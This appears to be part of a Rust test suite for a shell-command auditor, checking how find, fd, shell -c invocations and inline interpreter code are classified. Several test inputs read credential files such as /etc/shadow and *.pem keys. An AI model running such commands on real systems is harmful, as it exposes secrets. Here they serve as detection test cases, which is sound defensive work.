         walk /etc",
        "find / -name a -ok cat {} ; -name b => run cat {} on found; walk / (a), walk / (b)",
        "find / -exec ls -l {} ; => run ls -l {} on found; search /",
        "find / -exec /bin/echo {} ; => run /bin/echo {} on found; search /",
        "find / -exec ls {} ; -exec cat {} ; => run cat {} on found; walk /",
        "find / -exec chmod 600 {} ; => run chmod 600 {} on found; search /",
        "find / -exec grep -l x {} + => run grep -l x {} on found; walk /",
        "find /etc -exec cat => run cat on found; walk /etc",
        "nohup find / -name shadow => search / (shadow)",
        "fd shadow /etc => search /etc (*shadow*)",
        "fd -g '*.pem' / -x cat => run cat on found; walk / (*.pem)",
        "fd => search .",
    ]);
}

#[test]
fn shells_find_their_script() {
    check(&[
        "sh -c 'cat x' => sh 'cat x' sh",
        "/bin/sh -c 'cat $1' name arg => sh 'cat $1' name arg",
        "bash -lc 'cat x' => sh 'cat x' bash",
        "bash -c -- 'cat x' => sh 'cat x' bash",
        "bash -c -e 'cat x' => sh 'cat x' bash",
        "bash -O extglob -c 'cat x' => sh 'cat x' bash",
        "bash +O extglob -c 'cat x' => sh 'cat x' bash",
        "bash -o pipefail -ec 'cat x' => sh 'cat x' bash",
        "bash -euo pipefail -c 'cat x' => sh 'cat x' bash",
        "bash -euxo pipefail -c 'cat x' a b => sh 'cat x' a b",
        "bash -ceo pipefail 'cat x' => sh 'cat x' bash",
        "dash -xc 'cat x' => sh 'cat x' dash",
        "sh -ic 'cat x' => sh 'cat x' sh",
        "sh -ce 'cat x' => sh 'cat x' sh",
        "bash +x -c 'cat x' => sh 'cat x' bash",
        "bash --norc --noprofile -c 'cat x' => sh 'cat x' bash",
        "bash --rcfile /etc/shadow -c 'cat x' a => run bash -c 'cat x' a; read /etc/shadow",
        "bash --rcfile /tmp/x -i => sh file /tmp/x bash",
        "bash --init-file=/tmp/x -i => sh file /tmp/x bash",
        "bash --rcfile /tmp/x => sh stdin bash",
        "zsh -c 'cat x' => sh 'cat x' zsh",
        "ksh -c 'cat x' => sh 'cat x' ksh",
        "mksh -c 'cat x' => sh 'cat x' mksh",
        "yash -c 'cat x' => sh 'cat x' yash",
        "ash -c 'cat x' => sh 'cat x' ash",
        "rbash -c 'cat x' => sh 'cat x' rbash",
        "fish -c 'cat x' => sh 'cat x' fish",
        "fish -c'cat x' a => sh 'cat x' fish a",
        "fish --command='cat x' => sh 'cat x' fish",
        "fish -C 'cat y' -c 'cat x' => sh 'cat y\ncat x' fish",
        "pwsh -Command cat x => sh 'cat x' sh",
        "sh -c => -",
        "sh -c … => sh … sh",
        "sh => sh stdin sh",
        "bash -i => sh stdin bash",
        "sh - => sh stdin sh",
        "sh -s => sh stdin sh",
        "bash -s a b => sh stdin bash a b",
        "bash -s -- a => sh stdin bash a",
        "sh /dev/stdin a => sh stdin sh a",
        "sh /proc/self/fd/0 => sh stdin sh",
        "sh x.sh a => sh file x.sh x.sh a",
        "sh -x x.sh => sh file x.sh x.sh",
        "sh -- x.sh => sh file x.sh x.sh",
        ". ./x.sh => sh file ./x.sh .",
        "source /etc/shadow a => sh file /etc/shadow source a",
        ". /dev/stdin => sh stdin .",
        "at now => sh stdin sh",
        "at -f /tmp/x now => sh file /tmp/x sh",
    ]);
}

#[test]
fn code_of_other_languages_is_found() {
    check(&[
        "python3 -c print(1) a => code Python print(1) a",
        "python3.11 -Ic x => code Python x",
        "python -ucx a b => code Python x a b",
        "python3 -W ignore -c x => code Python x",
        "python3 x.py /etc/shadow => code Python file x.py /etc/shadow",
        "python3 => code Python stdin",
        "python3 - a => code Python stdin a",
        "python3 -u /dev/stdin => code Python stdin",
        "python3 -m http.server -d /etc => read /etc",
        "python3 -m base64 -d /etc/shadow => read /etc/shadow",
        "python3 --version => -",
        "perl -e x => code Perl x",
        "perl -E x a => code Perl x a",
        "perl -ne print /etc/shadow => code Perl print /etc/shadow",
        "perl -lne print f => code Perl print f",
        "perl -0777ne print f => code Perl print f",
        "perl -l012pe x f => code Perl x f",
        "perl -e a -e b f => code Perl 'a\nb' f",
        "perl -MMIME::Base64 -e x => code Perl x",
        "perl -pi.bak -e x f => code Perl x f",
        "perl -F: -lane x f => code Perl x f",
        "perl x.pl => code Perl file x.pl",
        "ruby -e x a => code Ruby x a",
        "ruby -rjson -ne x f => code Ruby x f",
        "node -e x => code Node x",
        "node --eval x => code Node x",
        "node --eval=x => code Node x",
        "node -p x => code Node x",
        "node -pe x => code Node x",
        "nodejs -r fs -e x a => code Node x a",
        "bun -e x => code Node x",
        "deno eval x => code Node x",
        "node x.js => code Node file x.js",
        "php -r x => code Php x",
        "php -d a=b -r x -- y => code Php x y",
        "php -f x.php => code Php file x.php",
        "php x.php => code Php file x.php",
        "lua -e x => code Lua x",
        "lua -l m -e x => code Lua x",
        "lua - => code Lua stdin",
        "awk '{print}' /etc/shadow => code Awk {print} /etc/shadow",
        "awk -F : '{print $1}' f => code Awk '{print $1}' f",
        "awk -F: -v x=/etc/shadow p => code Awk p x=/etc/shadow",
        "gawk -e p f => code Awk p f",
        "mawk -- p f => code Awk p f",
        "awk -f x.awk f => code Awk file x.awk f",
        "awk -f /dev/stdin f => code Awk stdin f",
        "awk => -",
    ]);
}

#[test]
fn steps_stay_with_the_text() {
    use crate::audit::shell::text::Step;
    let given = vec![Text::literal("tar"), Text::literal("-C/etc"), Text::literal("-c")];
    let mut words = given;
    words.push(Text::literal("shadow").with_step(Step::Base64));
    let Program::Files { operands } = classify(&words).program else { panic!("tar reaches files") };
    let steps = operands[0].path.steps;
    assert!(steps.has(Step::Base64) && steps.has(Step::WorkingDirectory));
    let script = Text::literal("'cat' x").with_step(Step::Hex);
    let Program::Wrapper(env) =
        classify(&[Text::literal("env"), Text::literal("-S"), script]).program
    else {
        panic!("env runs a command")
    };
    assert!(env.argv[1].steps.has(Step::Quotes) && env.argv[2].steps.has(Step::Hex));
    assert!(!env.argv[2].steps.has(Step::Quotes));
}

/// However long a line is and whatever it holds, what is told of it stays within its size and the
/// bound for what is put together.
fn check_bounded(line: &[Text]) {
    let size = line.iter().map(|word| word.len() + 1).sum::<usize>();
    let told = describe(&classify(line).program).len();
    assert!(told <= 16 * size + 2 * MADE_MAX_BYTES, "{told} bytes are told of {size}");
}

#[test]
fn hostile_lines_yield_no_more_than_their_size() {
    let many = |first: &str, word: &str, count: usize| {
        let mut line = words(first);
        line.extend(std::iter::repeat_n(words(word), count).flatten());
        line
    };
    let count = 10_000;
    for (first, word) in [
        ("cat", "a"),
        ("cat", "*"),
        ("env", "env"),
        ("env", "A=b"),
        ("env", "e?v"),
        ("env", "-S"),
        ("sudo", "sudo"),
        ("su", "su"),
        ("xargs", "xargs"),
        ("find", "("),
        ("find", "-name a"),
        ("find", "-exec {} +"),
        ("find", "-path '*/a/*/b'"),
        ("find", "/etc"),
        ("tar", "-C a b"),
        ("grep -r x", "--include=a b"),
        ("parallel x{}", "::: a"),
        ("bash", "-o a"),
        ("bash", "-co"),
        ("perl", "-e a"),
        ("foo", "-"),
        ("foo", "--"),
        ("docker run", "-v /a:/b"),
        ("busybox", "busybox"),
        ("env -C a", "env -C a"),
        ("sed", "-e r/a"),
        ("find", "-exec c?t ;"),
    ] {
        check_bounded(&many(first, word, count));
    }
    for unit in
        ["a", "/", ":", ",/a", "=/", "@", "{", "}", "[", "'", "\\", "${", "\n", ";r /", "://"]
    {
        let long = Text::literal(unit.repeat(2 * count));
        let mut pattern = long.activated();
        pattern.push_hole();
        for program in [
            "x",
            "cat",
            "curl",
            "curl file:///",
            "sed",
            "env -S",
            "tar",
            "dd",
            "socat",
            "parallel x",
        ] {
            for tail in [&long, &pattern] {
                let mut line = words(program);
                line.push(tail.clone());
                line.extend(words("::: a b"));
                check_bounded(&line);
                line.swap(0, 1);
                check_bounded(&line);
            }
        }
        let regex = words("find / -regex").into_iter().chain([long.clone()]).collect::<Vec<_>>();
        check_bounded(&regex);
        let form = words("curl -F").into_iter().chain([long]).collect::<Vec<_>>();
        check_bounded(&form);
    }
}
